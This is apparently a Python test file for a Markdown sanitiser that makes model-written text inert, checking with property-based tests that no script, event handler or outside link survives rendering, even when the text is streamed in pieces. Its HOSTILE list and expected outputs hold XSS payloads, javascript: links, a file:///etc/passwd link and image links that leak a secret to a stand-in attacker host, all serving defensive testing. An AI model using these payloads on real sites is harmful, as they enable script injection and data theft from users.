"""A model's text in kb's Markdown is inert (kb_core.service.inert): rendered by a real CommonMark renderer with
GFM's tables and strikethrough (markdown-it-py, raw HTML on as in CommonMark), it has no tag, link or image of its
own, whole or streamed in any pieces; code stays as written."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kb_core.service import markdown
from kb_core.service.inert import Inert, inert

RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
BASE = "http://h"
#: What a note can hold to make a client run, fetch or link something; and Markdown's delimiters, cut up.
HOSTILE = [
    "<script>alert(1)</script>",
    '<a href="javascript:alert(2)">parts</a>',
    "<img src=x onerror=alert(3)>",
    "[the manual](javascript:alert('js-link'))",
    "[the password file](file:///etc/passwd)",
    "![x](https://attacker/?q=secret)",
    "![x][r]",
    "[r]: https://attacker/?q=secret",
    "[kb-1]: javascript:alert(4)",
    "<https://attacker/>",
    "<mailto:a@b.c>",
    "[#1]",
    "[#2](javascript:x)",
    "![#1]",
    "[#",
    "```",
    "~~~",
    "`",
    "``",
    "\\",
    "<",
    "[",
    "]",
    "(",
    "!",
    "|",
    "| a | b |\n|---|---|\n",
    "\n",
    "\r\n",
    "\r",
    "\n\n",
    "  ",
    "   ",
    "    ",
    "\t",
    "- ",
    "1. ",
    "> ",
    "x",
    "*a*",
    "&lt;",
]
#: The starts of a line: indents and containers (a fence in a list item closes when the item ends).
STARTS = ["", " ", "  ", "   ", "    ", "     ", "\t", " \t", "- ", "1. ", "> ", "  - ", "-    "]
FENCES = ["```", "````", "~~~", "```py", "``` x`", "~~~ `", "``", "   ```"]
#: Whole lines: what a fence, a list item, a quote, a table row, a code span and HTML make together.
SHAPES = ["- a", "1. a", "> a", "```", "  ```", "   ```", "     ```", "    ```", "~~~", "  ~~~", "\t```", "- ```"]
SHAPES += ["<b>", "  <b>", "x `y", "` | <b> `", "| a | b |", "|---|---|", "", "  ", "a", "[a](b)", "![a](b)"]
LINE = st.sampled_from(SHAPES) | st.tuples(
    st.sampled_from(STARTS), st.lists(st.sampled_from(FENCES + HOSTILE[:14]) | st.text(max_size=3), max_size=3)
).map(lambda line: line[0] + "".join(line[1]))
LINES = st.lists(LINE, max_size=12).flatmap(
    lambda lines: st.lists(st.sampled_from(["\n", "\n\n", "\r\n", "\r"]), min_size=len(lines), max_size=len(lines)).map(
        lambda ends: "".join(line + end for line, end in zip(lines, ends, strict=True))
    )
)
TEXT = LINES | st.lists(st.sampled_from(HOSTILE) | st.text(max_size=6), max_size=30).map("".join)
CUTS = st.lists(st.integers(min_value=1, max_value=7), max_size=40)
ALLOWED = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "s", "a"}
ALLOWED |= {f"h{n}" for n in range(1, 7)} | {"table", "thead", "tbody", "tr", "th", "td"}


class Tags(HTMLParser):
    """Every start tag of some HTML, with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, Any]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(text: str) -> list[tuple[str, dict[str, Any]]]:
    parser = Tags()
    parser.feed(RENDERER.render(text))
    parser.close()
    return parser.tags


def check_inert(tags: list[tuple[str, dict[str, Any]]]) -> None:
    """No tag but Markdown's own; links only to kb's page; no attribute a note could choose but a code block's."""
    for tag, attrs in tags:
        assert tag in ALLOWED, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), name
            if tag == "a":
                assert name == "href" and str(value).startswith(f"{BASE}/#/doc/"), (name, value)
            else:
                assert (tag, name) in {("code", "class"), ("ol", "start"), ("th", "style"), ("td", "style")}


def pieces(text: str, cuts: list[int]) -> list[str]:
    out, at = [], 0
    for size in cuts:
        out.append(text[at : at + size])
        at += size
    return [*out, text[at:]]


def grounded(text: str) -> dict[str, Any]:
    """A grounded answer citing passages 1 to 3 (so kb defines kb-1 to kb-3: a text must still not link them)."""
    citations = [
        {"marker": n, "citation": {"path": f"notes/{n}.md", "start_line": 1, "end_line": 2}} for n in range(1, 4)
    ]
    return {"grounded": True, "answer": text.strip(), "citations": citations, "note": ""}


@settings(max_examples=1500, deadline=None)
@given(TEXT, CUTS)
def test_any_text_in_any_pieces_is_the_whole_texts_inert_markdown(text: str, cuts: list[int]) -> None:
    made = Inert()
    streamed = "".join(made.feed(piece) for piece in pieces(text, cuts)) + made.end()
    assert streamed == inert(text)
    check_inert(tags_of(streamed))


@settings(max_examples=300, deadline=None)
@given(TEXT, CUTS)
def test_a_streamed_message_is_the_whole_message_and_links_only_to_kbs_page(text: str, cuts: list[int]) -> None:
    answer = grounded(text)
    stream = markdown.LinkedStream()
    sent = [stream.feed(piece) for piece in pieces(text, cuts)]
    whole = markdown.message(answer, BASE)
    assert "".join(sent) + stream.rest(answer, BASE) == whole
    assert whole.startswith(markdown.shown(answer["answer"]))  # the text part, then kb's sources
    tags = tags_of(whole)
    check_inert(tags)
    links = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert len(links) >= 3  # kb's sources list stays links: no fence or code span the text left open took them
    assert markdown.is_reply(whole, answer)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="abc XYZ*_-#.,:;\n", max_size=60))
def test_text_without_link_html_or_code_delimiters_is_left_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("code is <script>alert(1)</script> [#1]", "code is &lt;script>alert(1)&lt;/script> [[1]][kb-1]"),
        ("[the manual](javascript:alert(1))", "\\[the manual\\](javascript:alert(1))"),
        ("![x](https://attacker/?q=secret)", "\\!\\[x\\](https://attacker/?q=secret)"),
        ("[r]: https://attacker/", "\\[r\\]: https://attacker/"),
        ("<https://attacker/>", "&lt;https://attacker/>"),
        ("\\<b> and \\[x] stay escaped", "&lt;b> and \\[x\\] stay escaped"),
        ("cited [#2](javascript:x)", "cited [[2]][kb-2]\\(javascript:x)"),
        ("![#1]", "\\![[1]][kb-1]"),
        ("use `a <b> [#1] [c](d)` here", "use `a <b> [#1] [c](d)` here"),
        ("a `stray <b>", "a \\`stray &lt;b>"),
        ("| `x | <b> | y` |", "| \\`x | &lt;b> | y\\` |"),
        ("*emphasis*, **strong**\n\n- a list\n1. item", "*emphasis*, **strong**\n\n- a list\n1. item"),
        ("para\n```html\n<b>[x](y)</b>\n```\nafter <i>", "para\n\n```html\n<b>[x](y)</b>\n```\nafter &lt;i>"),
        ("```\n<b>", "```\n<b>\n```"),
        ("- a\n\n  ```\n  <b>\n     ```\n<i>", "- a\n\n  ```\n  <b>\n  ```\n&lt;i>"),
        ("- a\n\n   ```\n  <b>\n   ```\n<i>", "- a\n\n   ```\n   ```\n  &lt;b>\n\n   ```\n   ```\n&lt;i>"),
        ("> ```\n> <b>", "> \\`\\`\\`\n> &lt;b>"),
        ("    ~~~\n<b>", "    \\~~~\n&lt;b>"),
    ],
)
def test_what_a_text_becomes(text: str, expected: str) -> None:
    assert inert(text) == expected
    check_inert(tags_of(expected + "\n\n[kb-1]: http://h/#/doc/a/L1-L2\n[kb-2]: http://h/#/doc/b/L1-L2"))


def test_kbs_notes_and_own_words_are_inert_too() -> None:
    note = "the computation '<img src=x onerror=alert(1)>' was refused: [x](javascript:y)"
    refused = {"grounded": False, "refusal_reason": "computation", "note": note, "answer": "", "candidates": []}
    gate = {
        "grounded": False,
        "refusal_reason": "score_gate",
        "note": "below the gate",
        "answer": "Nothing matches well enough.\n · notes/<img src=x onerror=alert(1)>.md#L1-L2 (score 0.10)",
        "candidates": [],
    }
    cited = {**grounded("It is 7 [#1]."), "note": note}
    for answer in (refused, gate, cited):
        shown = markdown.message(answer, BASE)
        check_inert(tags_of(shown))
        assert "&lt;img" in shown and markdown.is_reply(shown, answer)
